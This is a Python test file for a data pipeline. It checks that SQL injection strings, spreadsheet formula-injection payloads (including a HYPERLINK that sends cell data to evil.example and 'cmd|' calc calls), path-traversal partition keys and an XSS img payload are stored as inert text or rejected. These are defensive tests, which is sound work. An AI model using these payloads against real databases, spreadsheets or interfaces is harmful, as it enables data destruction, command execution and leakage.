"""Texts that are SQL, formulas or markup somewhere: they are stored and given out as they came."""

import csv
import datetime as dt
from pathlib import Path

import dagster as dg
import psycopg

from pipelines.definitions import build_definitions
from pipelines.orchestration.asset_metadata import as_table
from pipelines.orchestration.resources import WarehouseResource, source_resource
from pipelines.postgres.roles import ANALYST
from pipelines.postgres.server import Connections
from pipelines.sources.solar import registry
from pipelines.testing.fake_source import FakeSource, document
from pipelines.warehouse.connection import Warehouse
from pipelines_tests.sources.shipments import made_up as shipments
from pipelines_tests.sources.shipments.made_up import line
from pipelines_tests.sources.solar.made_up import register

SQL = [
    "'; DROP TABLE shipments.articles; --",
    "$$; DELETE FROM solar.plants; $$",
    ":name %(name)s %s {name}",
    "\\'; SELECT pg_sleep(60); --",
    "\\N",
    "\\.",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def test_sql_in_values_is_text(
    warehouse: Warehouse, owner: psycopg.Connection, tmp_path: Path
) -> None:
    columns = ("article_name", "sku", "carrier", "receiver_address")
    sent = [f"{sql}." if sql == "\\N" else sql for sql in SQL]  # alone it is a missing value
    hostile = [line(number, **dict.fromkeys(columns, sql)) for number, sql in enumerate(sent)]
    outcome = shipments.deliver(warehouse, tmp_path, [*hostile, line(len(SQL))])
    assert outcome is not None
    assert (outcome.read, outcome.rejected) == (len(SQL) + 1, 0)
    query = "SELECT article_name, sku, carrier FROM shipments.articles WHERE sku <> 'LP123'"
    assert sorted(owner.execute(query).fetchall()) == sorted((sql,) * 3 for sql in sent)
    address = "SELECT receiver_address FROM enriched.track(%s, %s)"
    for number, sql in enumerate(sent):
        assert owner.execute(address, (f"TN{number:08}", sql)).fetchall() == [(sql,)]


def test_sql_in_a_plants_name_is_text(warehouse: Warehouse, owner: psycopg.Connection) -> None:
    for sql in SQL:
        registry.rename(warehouse, registry.add(warehouse, sql), sql[::-1])
    names = owner.execute("SELECT name FROM solar.plants ORDER BY plant_id").fetchall()
    assert names == [(sql[::-1],) for sql in SQL]


def test_sql_in_a_partition_key_is_rejected_before_any_request(
    warehouse: Warehouse,
    owner: psycopg.Connection,
    instance: dg.DagsterInstance,
    source: FakeSource,
) -> None:
    source.will(document([]))
    register(owner)
    url = warehouse.engine.url.render_as_string(hide_password=False)
    solar = source_resource("solar", monitoring_url=source.url)
    job = build_definitions(
        {"warehouse": WarehouseResource(url=url), "solar": solar}
    ).resolve_job_def("solar")
    for key in ("1; DROP TABLE solar.plants", "1' OR 1=1 --", "../../etc", "1\n2"):
        instance.add_dynamic_partitions("solar_plants", [key])
        result = job.execute_in_process(
            instance=instance, tags={"dagster/partition": key}, raise_on_error=False
        )
        assert not result.success
        (failed,) = [event for event in result.all_events if event.is_step_failure]
        assert key in str(failed.step_failure_data.error)
    assert source.requests == []
    assert owner.execute("SELECT count(*) FROM solar.plants").fetchone() == (1,)


def test_a_formula_is_stored_and_returned_as_sent(
    warehouse: Warehouse, server: Connections, database: str, tmp_path: Path
) -> None:
    shipments.deliver(
        warehouse,
        tmp_path,
        [
            line(number, article_name=formula, receiver_address=formula)
            for number, formula in enumerate(FORMULAS)
        ],
    )
    expected = [[formula.strip()] * 2 for formula in FORMULAS]
    query = "SELECT article_name, receiver_address FROM shipments.articles"
    query += " INNER JOIN shipments.shipments USING (tracking_number, carrier)"
    query += " ORDER BY tracking_number"
    with psycopg.connect(server.url(ANALYST, database)) as analyst:
        assert [[*row] for row in analyst.execute(query.encode())] == expected
        with analyst.cursor().copy(f"COPY ({query}) TO STDOUT (FORMAT csv)".encode()) as written:
            text = b"".join(written).decode()
    assert list(csv.reader(text.splitlines())) == expected


def test_tables_in_the_ui_are_escaped_text_of_limited_length() -> None:
    rows = [{"name": "<img src=x onerror=alert(1)>", "at": dt.date(2026, 1, 1), "long": "x" * 9999}]
    (record,) = as_table(rows).records
    assert record.data["name"] == "<img src=x onerror=alert(1)>"
    assert len(str(record.data["long"])) == 200
